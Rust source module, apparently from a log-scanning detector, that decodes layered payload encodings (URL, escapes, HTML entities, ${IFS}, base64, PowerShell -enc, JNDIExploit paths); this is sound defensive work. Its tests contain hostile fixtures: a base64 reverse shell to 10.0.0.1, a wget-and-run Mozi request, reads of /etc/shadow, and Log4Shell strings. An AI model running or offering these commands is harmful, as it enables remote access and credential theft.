//! Undoing the encodings attackers wrap payloads in: URL encoding (repeated), `\uXXXX` /
//! `\xHH` / octal escapes, HTML entities, base64 command blobs (`echo X | base64 -d`,
//! `{echo,X}|{base64,-d}`) and JNDIExploit `Base64/<b64>` paths. Every function is total:
//! malformed input is left as it is, output length is bounded by the input length.

use std::borrow::Cow;

use base64::engine::general_purpose::{STANDARD, STANDARD_NO_PAD, URL_SAFE, URL_SAFE_NO_PAD};
use base64::Engine as _;

/// How many rounds of URL decoding are applied at most (`%2524` is two rounds).
const URL_ROUNDS: usize = 4;

/// Percent-decode once. `plus` turns `+` into a space (form encoding). Invalid escapes
/// (`%%1938`, `%zz`) stay as they are.
pub(crate) fn url_decode_once(input: &[u8], plus: bool) -> Cow<'_, [u8]> {
    if !plus && memchr::memchr(b'%', input).is_none() {
        return Cow::Borrowed(input);
    }
    let mut out = Vec::with_capacity(input.len());
    let mut i = 0;
    while i < input.len() {
        // Runs without `%` (or `+`) are copied whole.
        let rest = &input[i..];
        let Some(k) = (if plus { memchr::memchr2(b'%', b'+', rest) } else { memchr::memchr(b'%', rest) })
        else {
            out.extend_from_slice(rest);
            break;
        };
        out.extend_from_slice(&rest[..k]);
        i += k;
        let b = input[i];
        if b == b'%' && i + 2 < input.len() {
            if let (Some(h), Some(l)) = (hex_val(input[i + 1]), hex_val(input[i + 2])) {
                // Control characters (`%%1938` in Windows event text) are left encoded: no
                // payload needs them and decoding them only makes noise.
                let v = h << 4 | l;
                if v >= 0x20 || matches!(v, b'\t' | b'\n' | b'\r' | 0) {
                    out.push(v);
                    i += 3;
                    continue;
                }
            }
        }
        // `%uXXXX` (IIS / old JavaScript escape()).
        if b == b'%' && matches!(input.get(i + 1), Some(b'u' | b'U')) {
            if let Some(c) = input.get(i + 2..i + 6).and_then(hex4) {
                push_char(&mut out, c);
                i += 6;
                continue;
            }
        }
        out.push(if plus && b == b'+' { b' ' } else { b });
        i += 1;
    }
    Cow::Owned(out)
}

/// Percent-decode until nothing changes (at most [`URL_ROUNDS`] rounds).
pub(crate) fn url_decode_repeated(input: &[u8], plus: bool) -> Cow<'_, [u8]> {
    let mut cur = Cow::Borrowed(input);
    for round in 0..URL_ROUNDS {
        let Cow::Owned(next) = url_decode_once(&cur, plus && round == 0) else { break };
        if next == *cur {
            break;
        }
        cur = Cow::Owned(next);
    }
    cur
}

/// Undo backslash escapes as Java, JavaScript, Go JSON and Apache write them: `\uXXXX`
/// (surrogate pairs joined), `\u{X}`, `\xHH`, octal `\NNN`, `\\`, `\"`, `\/`, `\n`, `\t`,
/// `\r`. Unknown escapes stay as they are.
pub(crate) fn unescape(input: &[u8]) -> Cow<'_, [u8]> {
    if memchr::memchr(b'\\', input).is_none() {
        return Cow::Borrowed(input);
    }
    let mut out = Vec::with_capacity(input.len());
    let mut i = 0;
    while i < input.len() {
        // Runs without a backslash are copied whole.
        let Some(k) = memchr::memchr(b'\\', &input[i..]) else {
            out.extend_from_slice(&input[i..]);
            break;
        };
        out.extend_from_slice(&input[i..i + k]);
        i += k;
        if i + 1 >= input.len() {
            out.push(input[i]);
            i += 1;
            continue;
        }
        let next = input[i + 1];
        match next {
            b'u' | b'U' => {
                if input.get(i + 2) == Some(&b'{') {
                    if let Some(end) = input[i + 3..].iter().take(7).position(|&c| c == b'}') {
                        let hex = &input[i + 3..i + 3 + end];
                        if let Some(c) = parse_hex(hex).and_then(char::from_u32) {
                            push_char(&mut out, c as u32);
                            i += 4 + end;
                            continue;
                        }
                    }
                } else if let Some(hi) = input.get(i + 2..i + 6).and_then(hex4) {
                    // A surrogate pair `\uD83D\uDE00` becomes one code point.
                    if (0xd800..0xdc00).contains(&hi) && input.get(i + 6) == Some(&b'\\') {
                        if let Some(lo) = input.get(i + 8..i + 12).and_then(hex4) {
                            if (0xdc00..0xe000).contains(&lo) {
                                push_char(&mut out, 0x10000 + ((hi - 0xd800) << 10) + (lo - 0xdc00));
                                i += 12;
                                continue;
                            }
                        }
                    }
                    push_char(&mut out, hi);
                    i += 6;
                    continue;
                }
            }
            b'x' | b'X' => {
                if let (Some(h), Some(l)) =
                    (input.get(i + 2).and_then(|&c| hex_val(c)), input.get(i + 3).and_then(|&c| hex_val(c)))
                {
                    out.push(h << 4 | l);
                    i += 4;
                    continue;
                }
            }
            b'0'..=b'7' => {
                let digits: Vec<u8> = input[i + 1..]
                    .iter()
                    .take(3)
                    .take_while(|c| (b'0'..=b'7').contains(c))
                    .copied()
                    .collect();
                let v = digits.iter().fold(0u32, |a, &d| a * 8 + u32::from(d - b'0'));
                if digits.len() >= 2 && v <= 0xff {
                    out.push(v as u8);
                    i += 1 + digits.len();
                    continue;
                }
            }
            b'\\' | b'"' | b'\'' | b'/' => {
                out.push(next);
                i += 2;
                continue;
            }
            b'n' => {
                out.push(b'\n');
                i += 2;
                continue;
            }
            b't' => {
                out.push(b'\t');
                i += 2;
                continue;
            }
            b'r' => {
                out.push(b'\r');
                i += 2;
                continue;
            }
            _ => {}
        }
        out.push(b'\\');
        i += 1;
    }
    Cow::Owned(out)
}

/// Decode the HTML / XML entities payloads arrive in (`&gt;`, `&amp;`, `&#36;`, `&#x7b;`).
pub(crate) fn html_unescape(input: &[u8]) -> Cow<'_, [u8]> {
    if memchr::memchr(b'&', input).is_none() {
        return Cow::Borrowed(input);
    }
    let mut out = Vec::with_capacity(input.len());
    let mut i = 0;
    while i < input.len() {
        // Runs without `&` are copied whole.
        let Some(k) = memchr::memchr(b'&', &input[i..]) else {
            out.extend_from_slice(&input[i..]);
            break;
        };
        out.extend_from_slice(&input[i..i + k]);
        i += k;
        let rest = &input[i + 1..];
        if let Some(semi) = rest.iter().take(10).position(|&c| c == b';') {
            let name = &rest[..semi];
            let ch: Option<u32> = match name {
                b"lt" => Some('<' as u32),
                b"gt" => Some('>' as u32),
                b"amp" => Some('&' as u32),
                b"quot" => Some('"' as u32),
                b"apos" => Some('\'' as u32),
                b"dollar" => Some('$' as u32),
                b"lbrace" | b"lcub" => Some('{' as u32),
                b"rbrace" | b"rcub" => Some('}' as u32),
                _ if name.first() == Some(&b'#') => {
                    let n = &name[1..];
                    if let Some(h) = n.strip_prefix(b"x").or_else(|| n.strip_prefix(b"X")) {
                        parse_hex(h)
                    } else {
                        std::str::from_utf8(n).ok().and_then(|s| s.parse().ok())
                    }
                }
                _ => None,
            };
            if let Some(c) = ch.filter(|&c| char::from_u32(c).is_some()) {
                push_char(&mut out, c);
                i += semi + 2;
                continue;
            }
        }
        out.push(input[i]);
        i += 1;
    }
    Cow::Owned(out)
}

/// Every decoding at once, repeated until stable (at most 4 rounds): URL, escapes, HTML
/// entities, shell `${IFS}` spaces. `+` is a space inside query strings (after a `?`, up to
/// the end of the request target); `plus` turns every `+` into a space.
pub(crate) fn normalize(input: &[u8], plus: bool) -> Vec<u8> {
    let mut cur = if plus { input.to_vec() } else { query_plus(input).into_owned() };
    for _ in 0..4 {
        // A step holding none of its escapes hands the text back borrowed: nothing is copied.
        let next = url_decode_repeated(&cur, plus);
        let next = then(next, unescape);
        let next = then(next, html_unescape);
        let Cow::Owned(next) = then(next, ifs_spaces) else { break };
        let again = next != cur && may_be_encoded(&next);
        cur = next;
        if !again {
            break;
        }
    }
    cur
}

/// `step` applied to text the steps before may have changed (owned) or not (borrowed): the
/// result is borrowed only when no step changed it.
fn then<'a>(text: Cow<'a, [u8]>, step: fn(&[u8]) -> Cow<'_, [u8]>) -> Cow<'a, [u8]> {
    match text {
        Cow::Borrowed(t) => step(t),
        Cow::Owned(t) => {
            let changed = match step(&t) {
                Cow::Owned(v) => Some(v),
                Cow::Borrowed(_) => None,
            };
            Cow::Owned(changed.unwrap_or(t))
        }
    }
}

/// `IFS`, searched in every candidate record (a searcher built once: `memmem::find` builds
/// one per call).
static IFS: std::sync::LazyLock<memchr::memmem::Finder<'static>> =
    std::sync::LazyLock::new(|| memchr::memmem::Finder::new(b"IFS"));

/// True when `normalize` could change `input` (it holds `%`, `\`, `&`, a `+` after a `?`,
/// or `$IFS`).
pub(crate) fn may_be_encoded(input: &[u8]) -> bool {
    memchr::memchr3(b'%', b'\\', b'&', input).is_some()
        || (memchr::memchr(b'+', input).is_some() && memchr::memchr(b'?', input).is_some())
        || IFS.find(input).is_some()
}

/// `+` as a space inside query strings: from a `?` up to the next space, tab or `"` (the end
/// of a logged request target). Elsewhere `+` stays (base64, `stratum+tcp`).
pub(crate) fn query_plus(input: &[u8]) -> Cow<'_, [u8]> {
    if memchr::memchr(b'+', input).is_none() {
        return Cow::Borrowed(input);
    }
    let mut out = input.to_vec();
    let mut at = 0;
    while let Some(q) = memchr::memchr(b'?', &out[at..]) {
        let start = at + q + 1;
        let end = memchr::memchr3(b' ', b'\t', b'"', &out[start..]).map_or(out.len(), |e| start + e);
        for b in &mut out[start..end] {
            if *b == b'+' {
                *b = b' ';
            }
        }
        at = end;
    }
    Cow::Owned(out)
}

/// Shell word-splitting tricks that stand for a space: `${IFS}`, `$IFS$9` (and any `$N`),
/// `${IFS%??}`, `$IFS` before a non-word byte.
pub(crate) fn ifs_spaces(input: &[u8]) -> Cow<'_, [u8]> {
    if IFS.find(input).is_none() {
        return Cow::Borrowed(input);
    }
    let mut out = Vec::with_capacity(input.len());
    let mut i = 0;
    while i < input.len() {
        let rest = &input[i..];
        let n = if rest.starts_with(b"${IFS}") {
            6
        } else if rest.starts_with(b"${IFS%??}") {
            9
        } else if rest.starts_with(b"$IFS")
            && !rest.get(4).is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'_')
        {
            // `$IFS$9`: an empty positional parameter glued on, to end the name.
            if rest.get(4) == Some(&b'$') && rest.get(5).is_some_and(u8::is_ascii_digit) {
                6
            } else {
                4
            }
        } else {
            0
        };
        if n > 0 {
            out.push(b' ');
            i += n;
        } else {
            out.push(input[i]);
            i += 1;
        }
    }
    Cow::Owned(out)
}

/// Decode base64 in any of its alphabets, padded or not. None unless it decodes to mostly
/// printable text (so random words are not taken for base64).
pub(crate) fn base64_text(b64: &[u8]) -> Option<String> {
    let trimmed: Vec<u8> = b64.iter().copied().filter(|c| !c.is_ascii_whitespace()).collect();
    if trimmed.len() < 4 {
        return None;
    }
    let bytes = [STANDARD, URL_SAFE, STANDARD_NO_PAD, URL_SAFE_NO_PAD]
        .iter()
        .find_map(|e| e.decode(&trimmed).ok())
        .or_else(|| {
            // Tolerate a truncated tail (logs cut long lines): decode the longest valid prefix.
            let cut = trimmed.len() - trimmed.len() % 4;
            STANDARD_NO_PAD
                .decode(trimmed[..cut].iter().filter(|&&c| c != b'=').copied().collect::<Vec<_>>())
                .ok()
        })?;
    let text = String::from_utf8_lossy(&bytes).into_owned();
    let printable =
        text.chars().filter(|&c| (!c.is_control() || c.is_whitespace()) && c != '\u{fffd}').count();
    (printable * 10 >= text.chars().count() * 9 && !text.trim().is_empty()).then_some(text)
}

/// The base64 blobs a command line pipes into a decoder and then into a shell:
/// `echo X | base64 -d | bash`, `{echo,X}|{base64,-d}|{bash,-i}`, `base64 --decode <<< X`,
/// `printf X | base64 -d`, PowerShell `-enc X` (UTF-16LE). Returns the decoded commands.
pub(crate) fn shell_base64_payloads(text: &[u8]) -> Vec<String> {
    let s = String::from_utf8_lossy(text);
    let mut out = Vec::new();
    for cap in SHELL_B64.captures_iter(&s) {
        if let Some(m) = cap.name("b64").or_else(|| cap.name("b64b")).or_else(|| cap.name("b64c")) {
            if let Some(t) = base64_text(m.as_str().as_bytes()) {
                out.push(t.trim_end().to_string());
            }
        }
        if let Some(m) = cap.name("ps") {
            if let Some(t) = powershell_enc(m.as_str()) {
                out.push(t);
            }
        }
    }
    out
}

fn powershell_enc(b64: &str) -> Option<String> {
    let bytes = STANDARD.decode(b64.trim()).ok()?;
    if bytes.len() % 2 != 0 {
        return None;
    }
    let units: Vec<u16> = bytes.chunks(2).map(|c| u16::from_le_bytes([c[0], c[1]])).collect();
    let s = String::from_utf16(&units).ok()?;
    (!s.trim().is_empty() && s.chars().all(|c| !c.is_control() || c.is_whitespace())).then_some(s)
}

static SHELL_B64: std::sync::LazyLock<regex::Regex> = std::sync::LazyLock::new(|| {
    regex::Regex::new(concat!(
        r"(?i)(?:echo|printf)[\s,{]+(?:-[a-z]+\s+)?['\x22]?(?P<b64>[A-Za-z0-9+/_-]{8,}={0,2})['\x22]?\s*\}?\s*\|\s*\{?\s*base64[\s,]+(?:-d|--decode|-D)",
        r"|base64[\s,]+(?:-d|--decode|-D)\s*<<<\s*['\x22]?(?P<b64b>[A-Za-z0-9+/_-]{8,}={0,2})",
        r"|(?:frombase64string|b64decode|base64_decode|atob|decodebase64)\s*\(\s*['\x22](?P<b64c>[A-Za-z0-9+/_-]{8,}={0,2})['\x22]",
        r"|-e(?:nc(?:odedcommand)?|c)?\s+(?P<ps>[A-Za-z0-9+/]{16,}={0,2})(?:\s|$|['\x22])"
    ))
    .expect("valid built-in regex")
});

/// The command encoded in a JNDIExploit / JNDI-Injection-Exploit style LDAP path:
/// `/Basic/Command/Base64/<b64>`, `/TomcatBypass/Command/Base64/<b64>` (base64 may be
/// URL-safe, padded or not, `//` doubled). Also `/Command/<plain command>` (URL-encoded).
pub(crate) fn jndiexploit_command(path: &str) -> Option<String> {
    let lower = path.to_ascii_lowercase();
    if let Some(pos) = lower.find("/base64/") {
        let rest = path[pos + 8..].trim_start_matches('/');
        let b64: String = rest
            .chars()
            .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '/' | '=' | '_' | '-' | '%'))
            .collect();
        let b64 = String::from_utf8_lossy(&url_decode_repeated(b64.as_bytes(), false)).into_owned();
        return base64_text(b64.trim_end_matches('/').as_bytes());
    }
    if let Some(pos) = lower.find("/command/") {
        let rest = &path[pos + 9..];
        if !rest.is_empty() {
            return Some(String::from_utf8_lossy(&url_decode_repeated(rest.as_bytes(), false)).into_owned());
        }
    }
    None
}

fn hex_val(c: u8) -> Option<u8> {
    match c {
        b'0'..=b'9' => Some(c - b'0'),
        b'a'..=b'f' => Some(c - b'a' + 10),
        b'A'..=b'F' => Some(c - b'A' + 10),
        _ => None,
    }
}

fn hex4(h: &[u8]) -> Option<u32> {
    (h.len() == 4).then(|| parse_hex(h)).flatten()
}

fn parse_hex(h: &[u8]) -> Option<u32> {
    if h.is_empty() || h.len() > 8 {
        return None;
    }
    h.iter().try_fold(0u32, |a, &c| Some(a * 16 + u32::from(hex_val(c)?)))
}

/// Push a code point as UTF-8; lone surrogates and invalid values become U+FFFD.
fn push_char(out: &mut Vec<u8>, c: u32) {
    let ch = char::from_u32(c).unwrap_or('\u{fffd}');
    let mut buf = [0u8; 4];
    out.extend_from_slice(ch.encode_utf8(&mut buf).as_bytes());
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::test_rng::Rng;

    fn s(v: impl AsRef<[u8]>) -> String {
        String::from_utf8(v.as_ref().to_vec()).unwrap()
    }

    #[test]
    fn url_decoding_repeats_and_leaves_invalid_escapes() {
        assert_eq!(s(url_decode_repeated(b"%2524%25257Bjndi%253Aldap", false)), "${jndi:ldap");
        assert_eq!(s(url_decode_repeated(b"$%7Bjndi:x%7D", false)), "${jndi:x}");
        assert_eq!(s(url_decode_repeated(b"TYPE: %%1938 100%", false)), "TYPE: %%1938 100%");
        assert_eq!(s(url_decode_repeated(b"%zz%4", false)), "%zz%4");
        assert_eq!(s(url_decode_repeated(b"a+b%2Bc", true)), "a b+c");
        assert_eq!(s(url_decode_repeated(b"%u0024%u007B", false)), "${");
    }

    #[test]
    fn escapes_of_every_kind() {
        assert_eq!(s(unescape(br"\u0024\u007bjndi")), "${jndi");
        assert_eq!(s(unescape(br"bash -i \u003e\u0026 /dev/tcp")), "bash -i >& /dev/tcp");
        assert_eq!(s(unescape(br"\x24\x7B \44\173")), "${ ${");
        assert_eq!(s(unescape(br"\ud83d\ude00 \u{1F600}")), "\u{1F600} \u{1F600}");
        assert_eq!(s(unescape(br#"a\"b\\c\/d"#)), r#"a"b\c/d"#);
        assert_eq!(s(unescape(br"\q \u12 \x4 end\")), r"\q \u12 \x4 end\");
        assert_eq!(s(unescape(br"\ud800x")), "\u{fffd}x");
    }

    #[test]
    fn decoding_random_escapes_never_grows_the_text() {
        // Escape-dense random text (every decoder's trigger, torn escapes, ends mid-escape):
        // no panic, and every step keeps the bound the module promises.
        let alphabet = b"%\\&;#xXuU{}0123456789aAbBcCdDeEfFgz+? \"$IFS/";
        let mut rng = Rng(0x9e37_79b9_7f4a_7c15);
        for _ in 0..20_000 {
            let len = rng.below(40);
            let input = rng.bytes(alphabet, len);
            for plus in [false, true] {
                assert!(
                    normalize(&input, plus).len() <= input.len(),
                    "{:?}",
                    String::from_utf8_lossy(&input)
                );
            }
            assert!(url_decode_once(&input, true).len() <= input.len());
            assert!(unescape(&input).len() <= input.len());
            assert!(html_unescape(&input).len() <= input.len());
        }
    }

    #[test]
    fn query_plus_is_the_byte_by_byte_state_machine() {
        // The rule it implements, one byte at a time: `?` opens a query, a space, tab or `"`
        // closes it, `+` inside one is a space.
        let reference = |input: &[u8]| -> Vec<u8> {
            let mut in_query = false;
            input
                .iter()
                .map(|&b| {
                    in_query = (in_query || b == b'?') && !matches!(b, b' ' | b'\t' | b'"');
                    if b == b'+' && in_query {
                        b' '
                    } else {
                        b
                    }
                })
                .collect()
        };
        let mut rng = Rng(7);
        for _ in 0..20_000 {
            let len = rng.below(12);
            let input = rng.bytes(b"?+ \t\"a=+?", len);
            assert_eq!(query_plus(&input), reference(&input), "{:?}", String::from_utf8_lossy(&input));
        }
    }

    #[test]
    fn query_plus_and_shell_spaces() {
        assert_eq!(
            s(normalize(b"GET /setup.cgi?cmd=rm+-rf+/tmp/*;wget+http://192.168.1.1:8088/Mozi.m+-O+/tmp/netgear;sh+netgear HTTP/1.0", false)),
            "GET /setup.cgi?cmd=rm -rf /tmp/*;wget http://192.168.1.1:8088/Mozi.m -O /tmp/netgear;sh netgear HTTP/1.0"
        );
        // Outside a query string `+` stays: base64, stratum+tcp, a plus in a path.
        assert_eq!(s(normalize(b"pool stratum+tcp://x:3333 /a+b", false)), "pool stratum+tcp://x:3333 /a+b");
        // `%2B` is a literal plus even inside the query.
        assert_eq!(s(normalize(b"/?a=b%2Bc+d", false)), "/?a=b+c d");
        assert_eq!(
            s(ifs_spaces(b"cat${IFS}/etc/passwd;cat$IFS$9/etc/shadow;x$IFS/y;${IFS%??}z")),
            "cat /etc/passwd;cat /etc/shadow;x /y; z"
        );
        assert_eq!(s(ifs_spaces(b"$IFSX stays")), "$IFSX stays");
        assert!(may_be_encoded(b"/?a=b+c"));
        assert!(!may_be_encoded(b"a+b"));
    }

    #[test]
    fn html_entities() {
        assert_eq!(
            s(html_unescape(b"bash -i &gt;&amp; /dev/tcp &#36;&#x7b; &bogus; &")),
            "bash -i >& /dev/tcp ${ &bogus; &"
        );
    }

    #[test]
    fn normalize_peels_layers() {
        assert_eq!(s(normalize(b"%255Cu0024%257B", false)), "${");
        // JSON inside JSON: escaped twice.
        assert_eq!(s(normalize(br"\\u0024{", false)), "${");
    }

    #[test]
    fn base64_command_forms() {
        let b = "YmFzaCAtaSA+JiAvZGV2L3RjcC8xMC4wLjAuMS80MjQyIDA+JjE=";
        for line in [
            format!("bash -c {{echo,{b}}}|{{base64,-d}}|{{bash,-i}}"),
            format!("echo {b} | base64 -d | bash"),
            format!("echo '{b}' | base64 --decode | sh"),
            format!("bash -c 'base64 -d <<< {b} | bash'"),
        ] {
            assert_eq!(
                shell_base64_payloads(line.as_bytes()),
                vec!["bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"],
                "{line}"
            );
        }
        // PowerShell -enc is UTF-16LE.
        let ps = STANDARD.encode("whoami".encode_utf16().flat_map(|u| u.to_le_bytes()).collect::<Vec<u8>>());
        assert_eq!(shell_base64_payloads(format!("powershell -enc {ps}").as_bytes()), vec!["whoami"]);
        assert!(shell_base64_payloads(b"echo hello | base64 -d").is_empty());
        assert_eq!(base64_text(b"!!!!"), None);
        assert_eq!(base64_text(&[0xff, 0xfe]), None);
    }

    #[test]
    fn jndiexploit_paths() {
        let b = "dG91Y2ggL3RtcC9wd25lZA==";
        assert_eq!(
            jndiexploit_command(&format!("/Basic/Command/Base64/{b}")).as_deref(),
            Some("touch /tmp/pwned")
        );
        assert_eq!(
            jndiexploit_command(&format!("/TomcatBypass/Command/Base64//{}", b.trim_end_matches('=')))
                .as_deref(),
            Some("touch /tmp/pwned")
        );
        assert_eq!(
            jndiexploit_command("/Basic/Command/Base64/dG91Y2ggL3RtcC9wd25lZA%3D%3D").as_deref(),
            Some("touch /tmp/pwned")
        );
        assert_eq!(jndiexploit_command("/Basic/Command/whoami").as_deref(), Some("whoami"));
        assert_eq!(jndiexploit_command("/Basic/Command/Base64/XXXX"), None);
        assert_eq!(jndiexploit_command("/a"), None);
    }
}
